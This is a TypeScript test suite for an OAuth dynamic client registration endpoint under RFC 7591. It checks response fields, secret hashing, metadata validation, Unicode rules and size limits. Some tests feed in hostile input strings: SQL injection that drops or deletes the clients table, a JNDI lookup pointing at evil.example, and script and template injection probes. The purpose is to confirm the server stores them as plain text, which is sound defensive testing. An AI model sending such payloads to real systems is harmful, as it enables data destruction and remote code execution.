import { ClientMetadata, MetadataField, OAuthClient, OAuthClientService } from 'nestjs-dynamic-registration';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { expectRefusal, invalidMetadata, invalidRedirectUri } from '../errors/refusal.js';
import { clientMetadata, completeMetadata, publicKey, type Members } from '../support/client-metadata.builder.js';
import { ISSUER, platforms, startServer, type TestServer } from '../support/start-server.js';

const FIELDS = Object.keys({ ...completeMetadata(), jwks_uri: '' }).filter((name) => !name.includes('#'));

describe.each(platforms)('client registration endpoint, RFC 7591 section 3 ($adapter, $database.name)', (platform) => {
  let server: TestServer;
  let token: string;
  beforeAll(async () => {
    server = await startServer({
      ...platform,
      options: { server: { scopes: ['tides.read', 'tides.write'], defaultScopes: [] } },
    });
    token = await server.token();
  });
  afterAll(() => server.close());

  const register = (metadata: unknown) => server.register(metadata, token);
  const row = async (clientId: string) =>
    server.dataSource.getRepository(OAuthClient).findOneByOrFail({ clientId: clientId });

  it('answers 201 with the client information and every applied default (RFC 7591 section 3.2.1)', async () => {
    const { status, headers, body } = await register({
      client_name: 'Tide Tables',
      redirect_uris: ['https://tides.example/cb'],
    });
    expect(status).toBe(201);
    expect(headers.get('content-type')).toMatch(/^application\/json/);
    expect(headers.get('cache-control')).toBe('no-store');
    expect(headers.get('pragma')).toBe('no-cache');
    expect(headers.get('www-authenticate')).toBeNull();
    expect(body).toEqual({
      client_id: expect.stringMatching(/^[0-9a-f-]{36}$/),
      client_id_issued_at: expect.any(Number),
      client_secret: expect.stringMatching(/^cs_[A-Za-z0-9_-]{43}$/),
      client_secret_expires_at: 0,
      client_name: 'Tide Tables',
      redirect_uris: ['https://tides.example/cb'],
      token_endpoint_auth_method: 'client_secret_basic',
      grant_types: ['authorization_code'],
      response_types: ['code'],
      application_type: 'web',
      registration_access_token: expect.stringMatching(/^rat_[A-Za-z0-9_-]{43}$/),
      registration_client_uri: `${ISSUER}/register/${body.client_id}`,
    });
  });

  it('dates the client in whole seconds since the epoch (RFC 7591 section 3.2.1)', async () => {
    const before = Math.floor(Date.now() / 1000);
    const { body } = await register(clientMetadata());
    expect(Number.isInteger(body.client_id_issued_at)).toBe(true);
    expect(body.client_id_issued_at).toBeGreaterThanOrEqual(before);
    expect(body.client_id_issued_at).toBeLessThanOrEqual(Math.ceil(Date.now() / 1000));
  });

  it('returns all registered metadata (RFC 7591 section 3.2.1), and again when it is read', async () => {
    const metadata = completeMetadata();
    const { status, body } = await register(metadata);
    expect(status).toBe(201);
    expect(body).toMatchObject(metadata);
    const { client_secret: _shownOnce, ...rest } = body;
    const read = await server.request('GET', `/register/${body.client_id}`, { token: body.registration_access_token });
    expect(read.body).toEqual(rest);
  });

  it('gives a client that needs no secret neither secret nor expiry (RFC 7591 section 3.2.1)', async () => {
    const { body } = await register(clientMetadata({ token_endpoint_auth_method: 'none' }));
    expect(body).not.toHaveProperty('client_secret');
    expect(body).not.toHaveProperty('client_secret_expires_at');
    expect(await row(body.client_id)).toMatchObject({ clientSecretHash: null, clientSecretExpiresAt: null });
  });

  it('gives every client an id, a secret and a registration access token of its own', async () => {
    const answers = await Promise.all(Array.from({ length: 20 }, () => register(clientMetadata())));
    for (const member of ['client_id', 'client_secret', 'registration_access_token'])
      expect(new Set(answers.map(({ body }) => body[member])).size).toBe(20);
  });

  it('keeps neither secret nor token in clear (RFC 7591 section 5)', async () => {
    const { body } = await register(clientMetadata());
    const stored = JSON.stringify(
      await server.dataSource.query('SELECT * FROM oauth_clients').then((rows: Members[]) => rows),
    );
    expect(stored).toContain(body.client_id);
    expect(stored).not.toContain(body.client_secret);
    expect(stored).not.toContain(body.registration_access_token);
    expect(await server.app.get(OAuthClientService).verifySecret(await row(body.client_id), body.client_secret)).toBe(
      true,
    );
  });

  it('ignores unknown members: never stored, never returned (RFC 7591 section 2)', async () => {
    const unknown = {
      display_name: 'x',
      clientName: 'x',
      redirect_uri: 'javascript:alert(1)',
      'unknown#ja': 'x',
      status: 'approved',
      nested: { deep: [1, 2, { three: null }] },
      toString: 'x',
      hasOwnProperty: 1,
      '': 'x',
    };
    const plain = await register(clientMetadata());
    const { status, body } = await register({ ...unknown, ...clientMetadata() });
    expect(status).toBe(201);
    expect(Object.keys(body).toSorted()).toEqual(Object.keys(plain.body).toSorted());
    expect((await row(body.client_id)).additionalMetadata).toBeNull();
  });

  it('ignores client_id, client_secret and the other members of the server (RFC 7591 section 2)', async () => {
    const asked = {
      client_id: 'chosen',
      client_secret: 'chosen',
      client_id_issued_at: 1,
      client_secret_expires_at: 1,
      registration_access_token: 'chosen',
      registration_client_uri: 'https://evil.example/',
    };
    const { status, body } = await register({ ...clientMetadata(), ...asked });
    expect(status).toBe(201);
    for (const [name, value] of Object.entries(asked)) expect(body[name]).not.toEqual(value);
    expect(JSON.stringify(await row(body.client_id))).not.toContain('chosen');
  });

  it.each([null, ''])('counts %j as an omitted member, for every field (RFC 7591 section 2)', async (nothing) => {
    const everyField = Object.fromEntries(FIELDS.map((name) => [name, nothing]));
    const metadata = { ...everyField, ...clientMetadata(), 'client_name#ja': nothing };
    const { status, body } = await register(metadata);
    const plain = await register(clientMetadata());
    expect(status).toBe(201);
    expect(Object.keys(body).toSorted()).toEqual(Object.keys(plain.body).toSorted());
  });

  it('counts an empty list as omitted, where it means nothing', async () => {
    const { status, body } = await register(clientMetadata({ contacts: [], grant_types: [] }));
    expect(status).toBe(201);
    expect(body).not.toHaveProperty('contacts');
    expect(body.grant_types).toEqual(['authorization_code']);
  });

  it('returns redirect_uris and response_types even when there are none (RFC 7591 section 3.2.1)', async () => {
    const { status, body } = await register({ grant_types: ['client_credentials'] });
    expect(status).toBe(201);
    expect(body).toMatchObject({ redirect_uris: [], response_types: [], grant_types: ['client_credentials'] });
  });

  it('takes redirect_uris and response_types back as empty lists', async () => {
    const sent = { grant_types: ['client_credentials'], redirect_uris: [], response_types: [] };
    const { status, body } = await register(sent);
    expect(status).toBe(201);
    expect(body).toMatchObject(sent);
  });

  it('returns no null and no empty member', async () => {
    const { body } = await register(completeMetadata({ client_uri: null, logo_uri: '', contacts: [] }));
    for (const [name, value] of Object.entries(body)) {
      expect([name, value]).not.toEqual([name, null]);
      expect([name, value]).not.toEqual([name, '']);
    }
    expect(body).not.toHaveProperty('client_uri');
    expect(body).not.toHaveProperty('logo_uri');
    expect(body).not.toHaveProperty('contacts');
  });

  it('removes duplicates and keeps the order of lists', async () => {
    const [a, b] = ['https://tides.example/b', 'https://tides.example/a'];
    const { body } = await register(
      clientMetadata({
        redirect_uris: [a, b, a],
        grant_types: ['refresh_token', 'authorization_code', 'refresh_token'],
        contacts: ['z', 'a', 'z'],
        scope: 'tides.write tides.read tides.write',
      }),
    );
    expect(body).toMatchObject({
      redirect_uris: [a, b],
      grant_types: ['refresh_token', 'authorization_code'],
      contacts: ['z', 'a'],
      scope: 'tides.write tides.read',
    });
  });

  it('keeps redirection URIs byte for byte (RFC 7591 section 2)', async () => {
    const redirect_uris = [
      'HTTPS://Tides.EXAMPLE/Cb',
      'https://tides.example',
      'https://tides.example:443/cb?b=2&a=1&a=',
      'https://tides.example/%e2%82%AC/',
    ];
    const { body } = await register(clientMetadata({ redirect_uris }));
    expect(body.redirect_uris).toEqual(redirect_uris);
    expect((await row(body.client_id)).redirectUris).toEqual(redirect_uris);
  });

  it('keeps names in every script, joiners and direction marks included', async () => {
    const names = {
      client_name: ' Tábua  de Marés \u{1F30A}',
      'client_name#ja': '潮汐表',
      'client_name#fa': 'می‌روم‏',
      'client_name#hi': 'क्‍ष',
    };
    const { status, body } = await register(clientMetadata(names));
    expect(status).toBe(201);
    expect(body).toMatchObject(names);
  });

  it('lets two clients have the same name', async () => {
    expect((await register(clientMetadata())).status).toBe(201);
    expect((await register(clientMetadata())).status).toBe(201);
  });

  describe('language tags (RFC 7591 section 2.2)', () => {
    it('registers variants of every field for people, in the letter case received', async () => {
      const tagged = {
        'client_name#ja-Jpan-JP': 'x',
        'client_name#PT-br': 'x',
        'client_uri#de': 'https://tides.example/de',
        'logo_uri#de-1996': 'https://tides.example/de.png',
        'tos_uri#sl-rozaj-biske': 'https://tides.example/tos',
        'policy_uri#x-whatever': 'https://tides.example/policy',
      };
      const { status, body } = await register(clientMetadata(tagged));
      expect(status).toBe(201);
      expect(body).toMatchObject(tagged);
      expect((await row(body.client_id)).additionalMetadata).toEqual(tagged);
    });

    it('takes variants without an untagged value', async () => {
      const { status, body } = await register(clientMetadata({ client_name: undefined, 'client_name#ja': '潮' }));
      expect(status).toBe(201);
      expect(body).not.toHaveProperty('client_name');
      expect(body['client_name#ja']).toBe('潮');
    });

    it.each(['client_name#', 'client_name#j', 'client_name#ja_JP', 'client_name#ja#de', 'client_name# ja', '#ja'])(
      'ignores %j: no well-formed tag makes an unknown member',
      async (name) => {
        const { status, body } = await register(clientMetadata({ [name]: 'x' }));
        expect(status).toBe(201);
        expect(body).not.toHaveProperty(name);
      },
    );

    it.each(['redirect_uris#ja', 'scope#ja', 'contacts#ja', 'jwks_uri#ja', 'software_id#ja', 'client_id#ja'])(
      'ignores %j: the field has no variants',
      async (name) => {
        const { status, body } = await register(clientMetadata({ [name]: 'javascript:alert(1)' }));
        expect(status).toBe(201);
        expect(body).not.toHaveProperty(name);
      },
    );

    it('holds each variant to the rule of its field', async () => {
      expectRefusal(
        await register(clientMetadata({ 'client_uri#ja': 'javascript:alert(1)' })),
        invalidMetadata('client_uri#ja must use https, or http on 127.0.0.1, [::1] or localhost'),
      );
      expectRefusal(
        await register(clientMetadata({ 'client_name#ja': 1 })),
        invalidMetadata('client_name#ja must be a string'),
      );
    });

    it('refuses two variants whose tags differ only in letter case', async () => {
      expectRefusal(
        await register(clientMetadata({ 'client_name#ja-JP': 'a', 'client_name#JA-jp': 'b' })),
        invalidMetadata('client_name must not have the same language tag twice'),
      );
    });

    it('bounds their number', async () => {
      const tagged = (count: number) =>
        Object.fromEntries(Array.from({ length: count }, (_, i) => [`client_name#x-${i}`, 'a']));
      expect((await register(clientMetadata(tagged(32)))).status).toBe(201);
      expectRefusal(
        await register(clientMetadata(tagged(33))),
        invalidMetadata('there must not be more than 32 members with a language tag'),
      );
    });
  });

  describe('wrong JSON types, never coerced (RFC 7591 section 2)', () => {
    const otherThanString: unknown[] = [1, 0, true, false, {}, { toString: 'x' }, [], ['x']];
    const otherThanList: unknown[] = ['x', 1, true, {}, { length: 1, 0: 'x' }];
    const notInList: unknown[] = [null, 1, false, {}, []];
    const strings = ['token_endpoint_auth_method', 'client_name', 'client_uri', 'logo_uri', 'scope', 'tos_uri'];
    const moreStrings = ['policy_uri', 'jwks_uri', 'software_id', 'software_version'];
    const lists = ['grant_types', 'response_types', 'contacts'];

    it.each([...strings, ...moreStrings])('%s must be a string', async (name) => {
      for (const value of otherThanString)
        expectRefusal(await register(clientMetadata({ [name]: value })), invalidMetadata(`${name} must be a string`));
    });

    it.each(lists)('%s must be an array of non-empty strings', async (name) => {
      for (const value of otherThanList)
        expectRefusal(await register(clientMetadata({ [name]: value })), invalidMetadata(`${name} must be an array`));
      for (const entry of notInList) {
        expectRefusal(
          await register(clientMetadata({ [name]: ['authorization_code', entry] })),
          invalidMetadata(`${name}[1] must be a string`),
        );
      }
      expectRefusal(
        await register(clientMetadata({ [name]: ['authorization_code', ''] })),
        invalidMetadata(`${name}[1] must not be empty`),
      );
    });

    it('redirect_uris must be an array of non-empty strings, refused with the code of its own', async () => {
      for (const value of otherThanList) {
        expectRefusal(await register({ redirect_uris: value }), invalidRedirectUri('redirect_uris must be an array'));
      }
      for (const entry of notInList) {
        expectRefusal(
          await register({ redirect_uris: ['https://tides.example/cb', entry] }),
          invalidRedirectUri('redirect_uris[1] must be a string'),
        );
      }
      expectRefusal(await register({ redirect_uris: [''] }), invalidRedirectUri('redirect_uris[0] must not be empty'));
    });

    it('jwks must be a JSON object', async () => {
      for (const value of ['{"keys":[]}', 1, true, [], [publicKey()]])
        expectRefusal(await register(clientMetadata({ jwks: value })), invalidMetadata('jwks must be a JSON object'));
    });

    it('application_type must be web or native', async () => {
      for (const value of ['Web', 'desktop', 1, true, {}, [], ['web']]) {
        expectRefusal(
          await register(clientMetadata({ application_type: value })),
          invalidMetadata('application_type must be one of web, native'),
        );
      }
    });
  });

  describe('strings', () => {
    it.each(['client_name', 'software_id', 'software_version', 'token_endpoint_auth_method'])(
      '%s must not contain control characters',
      async (name) => {
        for (const control of ['\0', '\n', '\r', '\t', '\u007f', '\u0085', '\u009b']) {
          expectRefusal(
            await register(clientMetadata({ [name]: `a${control}b` })),
            invalidMetadata(`${name} must not contain control characters`),
          );
        }
      },
    );

    it.each(['client_name', 'client_name#ja', 'software_id'])('%s must be well-formed Unicode', async (name) => {
      for (const lone of ['\ud800', '\udc00', '\ude00\ud83d', '\ufffd']) {
        expectRefusal(
          await register(clientMetadata({ [name]: `a${lone}b` })),
          invalidMetadata(`${name} must be well-formed Unicode`),
        );
      }
    });

    it.each(['client_name', 'client_name#ja'])('%s must not turn the direction of what follows', async (name) => {
      for (const code of [0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069]) {
        expectRefusal(
          await register(clientMetadata({ [name]: `live.${String.fromCodePoint(code)}moc` })),
          invalidMetadata(`${name} must not contain bidirectional formatting characters`),
        );
      }
    });

    it.each(['client_name', 'client_name#ja'])('%s must not look like another one', async (name) => {
      for (const hidden of ['\u200b', '\u2060', '\ufeff', '\u00ad']) {
        expectRefusal(
          await register(clientMetadata({ [name]: `Cl${hidden}aude` })),
          invalidMetadata(`${name} must not contain invisible formatting characters`),
        );
      }
      expect((await register(clientMetadata({ [name]: 'क्\u200dष \u061c\u200e\u200f\u200c' }))).status).toBe(201);
    });

    it('contacts may be anything a person can read, and nothing else', async () => {
      expect((await register(clientMetadata({ contacts: ['Ana', '+49 40 1234', 'a@b'] }))).status).toBe(201);
      expectRefusal(
        await register(clientMetadata({ contacts: ['ok', 'a\u202eb'] })),
        invalidMetadata('contacts[1] must not contain bidirectional formatting characters'),
      );
    });

    it.each([
      "Robert'); DROP TABLE oauth_clients;--",
      "' OR '1'='1",
      '"; DELETE FROM oauth_clients; --',
      '${jndi:ldap://evil.example/a}',
      '{{7*7}}',
      '<script>alert(1)</script>',
      '\\x00\\u0000',
    ])('stores %j as the text it is', async (text) => {
      const { status, body } = await register(
        clientMetadata({ client_name: text, software_id: text, contacts: [text] }),
      );
      expect(status).toBe(201);
      expect(body).toMatchObject({ client_name: text, software_id: text, contacts: [text] });
      expect(await row(body.client_id)).toMatchObject({ clientName: text, softwareId: text, contacts: [text] });
    });
  });

  describe('limits', () => {
    const uri = (bytes: number) => 'https://tides.example/'.padEnd(bytes, 'a');

    it('redirect_uris: 32 entries of 2048 bytes', async () => {
      const uris = Array.from({ length: 33 }, (_, i) => `https://tides.example/${i}`);
      expect((await register({ redirect_uris: uris.slice(1) })).status).toBe(201);
      expectRefusal(
        await register({ redirect_uris: uris }),
        invalidRedirectUri('redirect_uris must not have more than 32 entries'),
      );
      expect((await register({ redirect_uris: [uri(2048)] })).status).toBe(201);
      expectRefusal(
        await register({ redirect_uris: ['https://tides.example/cb', uri(2049)] }),
        invalidRedirectUri('redirect_uris[1] must not be longer than 2048 bytes'),
      );
    });

    it.each(['client_uri', 'logo_uri', 'tos_uri', 'policy_uri', 'jwks_uri', 'client_uri#ja'])(
      '%s: 2048 bytes',
      async (name) => {
        expect((await register(clientMetadata({ [name]: uri(2048) }))).status).toBe(201);
        expectRefusal(
          await register(clientMetadata({ [name]: uri(2049) })),
          invalidMetadata(`${name} must not be longer than 2048 bytes`),
        );
      },
    );

    it.each(['client_name', 'client_name#ja', 'software_id', 'software_version'])(
      '%s: 1024 bytes, not characters',
      async (name) => {
        expect((await register(clientMetadata({ [name]: 'é'.repeat(512) }))).status).toBe(201);
        expectRefusal(
          await register(clientMetadata({ [name]: `${'é'.repeat(512)}a` })),
          invalidMetadata(`${name} must not be longer than 1024 bytes`),
        );
      },
    );

    it.each(['contacts', 'grant_types', 'response_types'])('%s: 32 entries of 1024 bytes', async (name) => {
      expectRefusal(
        await register(clientMetadata({ [name]: Array.from({ length: 33 }, (_, i) => `a${i}`) })),
        invalidMetadata(`${name} must not have more than 32 entries`),
      );
      expectRefusal(
        await register(clientMetadata({ [name]: ['code', 'a'.repeat(1025)] })),
        invalidMetadata(`${name}[1] must not be longer than 1024 bytes`),
      );
    });

    it('token_endpoint_auth_method: 1024 bytes', async () => {
      expectRefusal(
        await register(clientMetadata({ token_endpoint_auth_method: 'a'.repeat(1025) })),
        invalidMetadata('token_endpoint_auth_method must not be longer than 1024 bytes'),
      );
    });

    it('scope: 4096 bytes', async () => {
      expect((await register(clientMetadata({ scope: 'a'.repeat(4096) }))).status).toBe(201);
      expectRefusal(
        await register(clientMetadata({ scope: 'a'.repeat(4097) })),
        invalidMetadata('scope must not be longer than 4096 bytes'),
      );
    });

    it('jwks: 32768 bytes as JSON', async () => {
      const jwks = (filler: number) => ({ keys: [publicKey()], filler: 'a'.repeat(filler) });
      expect((await register(clientMetadata({ jwks: jwks(32_000) }))).status).toBe(201);
      expectRefusal(
        await register(clientMetadata({ jwks: jwks(32_768) })),
        invalidMetadata('jwks must not be longer than 32768 bytes'),
      );
    });
  });
});

class NamedClientMetadata extends ClientMetadata {
  @MetadataField({ required: true })
  override client_name?: string;

  @MetadataField({ required: true })
  override contacts?: string[];
}

describe.each(platforms)('required fields of the host ($adapter, $database.name)', (platform) => {
  let server: TestServer;
  beforeAll(async () => {
    server = await startServer({
      ...platform,
      options: { metadata: NamedClientMetadata, limits: { textBytes: 20, redirectUris: 1 } },
    });
  });
  afterAll(() => server.close());

  const complete = clientMetadata({ contacts: ['ops'] });

  it('accepts a client that has them', async () => {
    const { status, body } = await server.register(complete);
    expect(status).toBe(201);
    expect(body).toMatchObject(complete);
  });

  it.each([undefined, null, ''])('refuses %j instead of a name', async (client_name) =>
    expectRefusal(await server.register({ ...complete, client_name }), invalidMetadata('client_name is required')),
  );

  it('refuses an empty list', async () =>
    expectRefusal(await server.register({ ...complete, contacts: [] }), invalidMetadata('contacts is required')));

  it('refuses a name in another language alone', async () =>
    expectRefusal(
      await server.register({ ...complete, client_name: undefined, 'client_name#ja': '潮' }),
      invalidMetadata('client_name is required'),
    ));

  it('requires them of an update too, and changes nothing', async () => {
    const { body } = await server.register(complete);
    const location = { token: body.registration_access_token };
    const path = `/register/${body.client_id}`;
    expectRefusal(
      await server.request('PUT', path, { ...location, body: { ...clientMetadata(), client_id: body.client_id } }),
      invalidMetadata('contacts is required'),
    );
    expect((await server.request('GET', path, location)).body).toMatchObject(complete);
  });

  it('keeps the rules of the field', async () =>
    expectRefusal(
      await server.register({ ...complete, client_name: 'a\u202eb' }),
      invalidMetadata('client_name must not contain bidirectional formatting characters'),
    ));

  it('takes its bounds from the option limits', async () => {
    expectRefusal(
      await server.register({ ...complete, client_name: 'a'.repeat(21) }),
      invalidMetadata('client_name must not be longer than 20 bytes'),
    );
    expectRefusal(
      await server.register({ ...complete, redirect_uris: ['https://tides.example/1', 'https://tides.example/2'] }),
      invalidRedirectUri('redirect_uris must not have more than 1 entries'),
    );
  });
});
